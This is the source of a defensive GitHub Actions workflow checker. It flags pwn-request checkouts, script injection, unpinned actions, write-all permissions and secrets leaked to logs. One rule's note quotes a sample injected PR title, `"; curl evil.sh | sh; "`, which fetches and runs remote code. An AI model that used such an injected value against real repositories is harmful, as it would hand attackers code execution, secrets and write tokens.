/**
 * GitHub Actions workflow security, after GitHub's "Security hardening for GitHub Actions"
 * (https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)
 * and GitHub Security Lab's "Preventing pwn requests"
 * (https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/).
 */
import type { CheckHit, CheckRule, FileCheck } from '../check.js';
import {
  EXPRESSION,
  loadWorkflowParser,
  parseWorkflow,
  type Workflow,
  type WorkflowJob,
} from './parse-workflow.js';
import { forkGuard, forkGuardNote } from './fork-checkout-guard.js';
import { downloadsArtifact, poisonable } from './poisonable-step.js';
import { checkoutGuard, type PrivilegedTrigger } from './same-repo-gate.js';
import { pastedFields, scriptInjection } from './script-injection.js';
import { printsToLog } from './shell-pipeline.js';

const HARDENING =
  'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';

const rule = (r: Omit<CheckRule, 'language' | 'category'>): CheckRule => ({
  ...r,
  language: 'github-actions',
  category: 'security',
});

// Critical when a later step may run the checked-out tree, high when all of them only read it
// (CodeQL's actions/untrusted-checkout/critical and /high; poisonable-step.ts decides which).
// https://codeql.github.com/codeql-query-help/actions/actions-untrusted-checkout-critical/
// A checkout that only a same-repository gate (`if:` of the job or of the checkout) lets run is no
// finding, and a broken or leaky gate is named in the body (same-repo-gate.ts).
// A checkout that actions/checkout itself refuses for a fork (its fork guard, actions/checkout#2454,
// in v7 and backported to v2.8.0, v3.7.0, v4.4.0, v5.1.0, v6.1.0 and the moving major tags) is medium,
// not dropped: GitHub Enterprise Server may bundle an older checkout, and the workflow is still
// wrong; `allow-unsafe-pr-checkout: true` keeps the severity (fork-checkout-guard.ts).
const PWN_REQUEST = rule({
  id: 'gha-untrusted-checkout',
  severity: 'critical',
  confidence: 0.9,
  message: '`pull_request_target`/`workflow_run` workflow checks out the PR head in a privileged job',
  note: `These triggers run with the base repository's secrets and a write token. Checking out the pull request's code and then building, testing or running anything from it hands both to whoever opened the PR (a "pwn request"). Run untrusted code under \`pull_request\` instead, or split the work: build in \`pull_request\`, use the result in a separate \`workflow_run\` job that never executes it. See ${HARDENING} and https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/.`,
});

const SCRIPT_INJECTION = rule({
  id: 'gha-script-injection',
  severity: 'high',
  confidence: 0.9,
  message: 'Attacker-controlled `${{ github.event.* }}` expanded inside a `run:` script (script injection)',
  note: `The expression is pasted into the script before the shell runs it, so a PR title, comment or branch name such as \`"; curl evil.sh | sh; "\` becomes code. Pass the value through an environment variable and quote it: \`env: { TITLE: \${{ github.event.pull_request.title }} }\` and \`echo "$TITLE"\`. See ${HARDENING}#understanding-the-risk-of-script-injections.`,
});

const UNPINNED_ACTION = rule({
  id: 'gha-unpinned-action',
  severity: 'medium',
  confidence: 0.85,
  message: 'Third-party action pinned to a movable tag or branch in a privileged workflow',
  note: `A tag such as \`@v2\` or a branch such as \`@main\` can be moved to new code by the action's owner (or whoever compromises it), and this workflow has secrets or a write token to give away. Pin the full commit SHA and keep the version in a comment: \`uses: owner/action@<40-hex sha> # v2.1.0\`. Actions owned by GitHub (\`actions/*\`, \`github/*\`) are not flagged: they come from the platform that already holds the token. See ${HARDENING}#using-third-party-actions.`,
});

const WRITE_ALL = rule({
  id: 'gha-permissions-write-all',
  severity: 'medium',
  confidence: 0.95,
  message: '`permissions: write-all` gives the workflow token every write scope',
  note: `Any step (or compromised action) can then push code, edit releases and change settings. Grant only what the jobs need, e.g. \`permissions: { contents: read, pull-requests: write }\`. See ${HARDENING}#using-secrets and https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token.`,
});

const SECRET_IN_LOG = rule({
  id: 'gha-secret-in-log',
  severity: 'medium',
  confidence: 0.8,
  message: 'Secret printed to the job log',
  note: `GitHub masks a secret's exact value in logs, but not a transformed one (base64, JSON, a substring, split lines), and logs of public repositories are public. Do not print secrets; check their presence with \`test -n "$TOKEN"\`, and hand one to a program through its standard input (\`printf '%s' "$TOKEN" | docker login --password-stdin\`). See ${HARDENING}#using-secrets.`,
});

const WORKFLOW_RULES = [PWN_REQUEST, SCRIPT_INJECTION, UNPINNED_ACTION, WRITE_ALL, SECRET_IN_LOG];

// Triggers that run with secrets and a write token on events outsiders can cause.
const PRIVILEGED_TRIGGERS = new Set([
  'pull_request_target',
  'workflow_run',
  'issue_comment',
  'issues',
  'discussion',
  'discussion_comment',
  'pull_request_review',
  'pull_request_review_comment',
]);

// Refs that name the pull request's own code. https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
const PR_HEAD =
  /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.pull_request\.merge_commit_sha/;

const SHA = /^[0-9a-f]{40}$/;

/** The GitHub Actions workflow check: `.github/workflows/*.yml|yaml`. */
export const workflowCheck: FileCheck = {
  language: 'github-actions',
  rules: WORKFLOW_RULES,
  covers: (path) => /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(path),
  load: loadWorkflowParser,
  run(content) {
    const workflow = parseWorkflow(content);
    if (!workflow) return [];
    const triggers = new Set(workflow.triggers.map((t) => t.value));
    const privileged = [...triggers].some((t) => PRIVILEGED_TRIGGERS.has(t));
    return [
      ...writeAll(workflow, content.split('\n')),
      ...workflow.jobs.flatMap((job) => [
        ...untrustedCheckout(workflow, job, triggers),
        ...scriptInjection(job, workflow, privileged, SCRIPT_INJECTION),
        ...unpinned(workflow, job, privileged),
        ...secretsPrinted(job),
      ]),
    ];
  },
};

function writeAll(workflow: Workflow, source: string[]): CheckHit[] {
  const all = [workflow.permissions, ...workflow.jobs.map((j) => j.permissions)];
  return all.flatMap((p) => {
    if (p?.value.trim() !== 'write-all') return [];
    // `permissions: write-all` on its own line becomes a read-only block the author widens as needed.
    const text = source[p.line - 1] ?? '';
    const own = /^(\s*)permissions:\s*write-all\s*(#.*)?$/.exec(text);
    const suggestion = own ? `${own[1]}permissions:\n${own[1]}  contents: read` : undefined;
    return [
      {
        rule: WRITE_ALL,
        lines: [p.line],
        suggestion,
        detail: 'Start from `contents: read` and add the scopes the jobs need.',
      },
    ];
  });
}

/**
 * The `ref` input of an actions/checkout step that names the pull request's head. Input names are
 * case-insensitive to the runner (`core.getInput` reads `INPUT_REF` for `ref`, `Ref` or `REF`), so a
 * workflow that writes `Ref:` checks out the head as surely; any such input naming it counts.
 */
function checkoutHeadRef(step: WorkflowJob['steps'][number]): { line: number } | undefined {
  if (!step.uses || !/^\s*actions\/checkout@/i.test(step.uses.value)) return undefined;
  return step.inputs.find((i) => {
    if (i.key.toLowerCase() !== 'ref') return false;
    const expressions = [...i.value.matchAll(EXPRESSION)].map((m) => m[1]!.trim());
    return (
      PR_HEAD.test(i.value) || pastedFields(expressions, step.envValues).some((f) => PR_HEAD.test(f.field))
    );
  });
}

function untrustedCheckout(workflow: Workflow, job: WorkflowJob, triggers: Set<string>): CheckHit[] {
  const privileged = (['pull_request_target', 'workflow_run'] as const).filter((t) => triggers.has(t));
  const trigger: PrivilegedTrigger | undefined = privileged[0];
  if (!trigger) return [];
  const hits: CheckHit[] = [];
  job.steps.forEach((step, index) => {
    const headRef = checkoutHeadRef(step);
    const checksOutHead =
      headRef ||
      step.run?.some((l) =>
        /\bgh pr checkout\b|git (fetch|checkout)\b.*(pull\/|head_ref|head\.sha|head\.ref)/.test(l.value),
      );
    if (!checksOutHead) return;
    const after = job.steps.slice(index + 1);
    // Any later step counts: an action (`docker/build-push-action`, `pre-commit/action`) builds or
    // runs the tree as surely as a script; `poisonable` grades it.
    const later = after.filter((s) => s.run || s.uses);
    if (later.length === 0) return;
    // A same-repository gate on the job or on the checkout itself keeps forks' heads out.
    const guard = checkoutGuard(
      [
        job.condition && { owner: "The job's", ...job.condition },
        step.condition && { owner: "The checkout step's", ...step.condition },
      ],
      privileged,
    );
    if (guard.gated) return;
    const triggerLine = workflow.triggers.find((t) => t.value === trigger)?.line;
    const lines = [headRef?.line ?? step.line, ...later.map((s) => s.run?.[0]?.line ?? s.line)];
    // The checkout's own script counts too: `gh pr checkout 1 && make` runs the tree in one step.
    const runsTree = [step, ...after].some(poisonable) || artifactRunElsewhere(workflow, job, after);
    // actions/checkout's own fork guard fails the job first (fork-checkout-guard.ts).
    const fork = step.run ? ({ kind: 'none' } as const) : forkGuard(step, trigger, triggers);
    hits.push({
      rule: PWN_REQUEST,
      severity: fork.kind === 'refuses' ? 'medium' : runsTree ? 'critical' : 'high',
      lines: [
        ...lines,
        ...(triggerLine === undefined ? [] : [triggerLine]),
        ...guard.lines,
        ...(fork.kind === 'opted-in' ? [fork.line] : []),
      ],
      detail: [
        runsTree
          ? `Triggered by \`${trigger}\`; job \`${job.id}\` runs ${later.length} step(s) after checking out the PR.`
          : `Triggered by \`${trigger}\`; the ${later.length} step(s) of job \`${job.id}\` after the checkout only read files, print or comment (no build tool, package manager, script or local action), so the PR's code is not run yet: high, not critical (CodeQL's \`actions/untrusted-checkout/high\`). The PR's files still sit in a job with secrets and a write token: one build step added later, or an artifact of this job that a \`workflow_run\` workflow executes, makes it a pwn request.`,
        ...guard.notes,
        ...forkGuardNote(fork, trigger),
      ].join(' '),
    });
  });
  return hits;
}

/**
 * Whether `after` (the steps after an untrusted checkout) uploads an artifact that another job of
 * the workflow downloads and then may run: the PR's tree carried to a job that executes it.
 */
function artifactRunElsewhere(workflow: Workflow, job: WorkflowJob, after: WorkflowJob['steps']): boolean {
  if (!after.some((s) => /^actions\/upload-artifact@/.test(s.uses?.value.trim() ?? ''))) return false;
  return workflow.jobs.some((other) => {
    if (other === job) return false;
    const download = other.steps.findIndex(downloadsArtifact);
    return download >= 0 && other.steps.slice(download + 1).some(poisonable);
  });
}

function unpinned(workflow: Workflow, job: WorkflowJob, privileged: boolean): CheckHit[] {
  const writes = [workflow.permissions, job.permissions].some((p) => p && /write/.test(p.value));
  const secrets = job.steps.some((s) => s.secretEnv.size > 0 || s.secretInputs.size > 0);
  if (!privileged && !writes && !secrets) return [];
  return job.steps.flatMap((step) => {
    const uses = step.uses;
    const match = uses && /^([\w.-]+)\/[\w./-]+@(.+)$/.exec(uses.value.trim());
    if (!uses || !match || SHA.test(match[2]!) || /^(actions|github)$/i.test(match[1]!)) return [];
    return [
      {
        rule: UNPINNED_ACTION,
        lines: [uses.line],
        detail: `\`${uses.value}\` follows whatever \`${match[2]}\` points to when the workflow runs.`,
      },
    ];
  });
}

function secretsPrinted(job: WorkflowJob): CheckHit[] {
  const hits: CheckHit[] = [];
  for (const step of job.steps) {
    for (const line of commandLines(step.run ?? [])) {
      // Each print of the line on its own (`echo ok && test -n "$TOKEN"` prints no secret), and only
      // when its output reaches the log: a print piped into a program that keeps it (`| gpg --import`,
      // `| docker login --password-stdin`, `| cosign sign`) prints nothing, GitHub's own advice for
      // docker login. A `set -x` trace of the echo shows the exact value, which GitHub masks as it
      // does a plain `echo "$TOKEN"`; shiori's traced `| docker login --password-stdin` was judged
      // debatable (fresh), so a trace adds no finding.
      const prints = printsToLog(line.value);
      const leaks = prints.some((c) => {
        if (/\$\{\{[^}]*\bsecrets\b/i.test(c)) return true;
        const expanded = expandedNames(c);
        return [...step.secretEnv].some((n) => expanded.has(n));
      });
      if (leaks) hits.push({ rule: SECRET_IN_LOG, lines: [line.line] });
    }
  }
  return hits;
}

/**
 * A script's commands, a backslash-continued command joined into one at its first line: `echo "$T" |
 * helm registry login ghcr.io \` is followed by `--password-stdin` on the next line (the OpenTelemetry
 * charts' release workflow, fresh7), and the shell reads the two as one pipeline.
 */
function commandLines<T extends { value: string }>(lines: readonly T[]): T[] {
  const joined: T[] = [];
  let open = false;
  for (const line of lines) {
    const last = joined.at(-1);
    if (open && last)
      joined[joined.length - 1] = { ...last, value: `${last.value.replace(/\\\s*$/, '')} ${line.value}` };
    else joined.push(line);
    open = /(^|[^\\])\\\s*$/.test(line.value);
  }
  return joined;
}

/**
 * The variables `command` expands as `$NAME` or `${NAME}`, read in one pass. The secret env names
 * come from the PR's workflow file, so they are compared as strings, never compiled: as a regular
 * expression `(a+)+c` backtracks for minutes and `TOKEN(` throws. A key that is not a shell name
 * cannot be expanded, so it never matches.
 */
function expandedNames(command: string): Set<string> {
  const names = new Set<string>();
  for (const match of command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) names.add(match[1]!);
  return names;
}
